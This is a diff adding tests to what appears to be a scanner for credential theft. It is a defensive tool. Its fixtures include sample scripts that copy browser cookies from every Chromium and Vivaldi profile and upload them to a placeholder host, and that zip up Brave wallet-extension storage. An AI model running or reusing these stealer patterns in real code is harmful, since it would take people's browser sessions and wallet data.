@@ -297,3 +297,61 @@ def test_a_harmless_function_looked_up_by_name_runs_nothing(tmp_path: Path) -> N
     )
     found = analyse_file(tmp_path, "scripts/report.py", source, Language.PYTHON)
     assert not [c for c in found if c.kind in (Kind.EXEC_DECODED, Kind.EXEC_FETCHED, Kind.EXEC_DYNAMIC)]
+
+
+# Tables of paths walked by loops (h5 round: browser-wallet)
+
+
+def test_roots_picked_by_platform_and_each_profile_folder_listed_are_paths_read(tmp_path: Path) -> None:
+    source = (
+        "import shutil, sys, requests\n"
+        "from pathlib import Path\n"
+        "BASES = {\n"
+        "    'win32': (Path.home() / 'AppData/Local/Chromium/User Data',),\n"
+        "    'linux': (Path.home() / '.config/vivaldi', Path.home() / '.config/chromium'),\n"
+        "}\n"
+        "def gather(dst):\n"
+        "    for base in BASES[sys.platform]:\n"
+        "        for profile in sorted(base.iterdir()):\n"
+        "            shutil.copy2(profile / 'Cookies', dst / profile.name)\n"
+        "gather(Path('/tmp/c'))\n"
+        "requests.post('https://bench.example.invalid/u', files={'f': open('/tmp/c.zip', 'rb')})\n"
+    )
+    found = analyse_file(tmp_path, "scripts/bench.py", source, Language.PYTHON)
+    copied = {c.chain[0].what for c in found if c.kind is Kind.SECRET_READ and c.chain[0].line == 10}
+    assert "copies browser saved logins and cookies: ~/.config/vivaldi/*/Cookies" in copied
+    assert "copies browser saved logins and cookies: ~/AppData/Local/Chromium/User Data/*/Cookies" in copied
+    assert ("CREDENTIAL_EXFILTRATION", "scripts/bench.py", 12) in scan_errors(tmp_path, {"scripts/bench.py": source})
+
+
+def test_a_table_of_more_than_eight_extension_ids_is_walked_whole(tmp_path: Path) -> None:
+    ids = [chr(ord("a") + i % 16) * 31 + chr(ord("p") - i) for i in range(12)]  # 32 letters a-p, as Chrome's
+    source = (
+        "import os, zipfile, urllib.request\n"
+        f"EXTENSIONS = {ids!r}\n"
+        "profile = os.path.expanduser('~/.config/BraveSoftware/Brave-Browser/Profile 1')\n"
+        "with zipfile.ZipFile('/tmp/e.zip', 'w') as z:\n"
+        "    for ext in EXTENSIONS:\n"
+        "        folder = os.path.join(profile, 'Local Extension Settings', ext)\n"
+        "        for name in os.listdir(folder):\n"
+        "            z.write(os.path.join(folder, name))\n"
+    )
+    found = analyse_file(tmp_path, "scripts/ext.py", source, Language.PYTHON)
+    read = {c.chain[0].what.rsplit("/", 2)[-2] for c in found if c.kind is Kind.SECRET_READ}
+    assert set(ids) <= read  # the twelfth id as much as the first
+
+
+def test_caches_picked_by_platform_and_globbed_read_no_secret(tmp_path: Path) -> None:
+    source = (
+        "import sys, requests\n"
+        "from pathlib import Path\n"
+        "CACHES = {'linux': [Path.home() / '.cache/pip'], 'darwin': [Path.home() / 'Library/Caches/pip']}\n"
+        "total = 0\n"
+        "for folder in CACHES.get(sys.platform, []):\n"
+        "    for wheel in folder.rglob('*.whl') if folder.exists() else []:\n"
+        "        total += wheel.stat().st_size\n"
+        "requests.post('https://metrics.example.invalid/cache', json={'bytes': total})\n"
+    )
+    found = analyse_file(tmp_path, "scripts/cache_size.py", source, Language.PYTHON)
+    assert not [c for c in found if c.kind is Kind.SECRET_READ]
+    assert not scan_errors(tmp_path, {"scripts/cache_size.py": source})
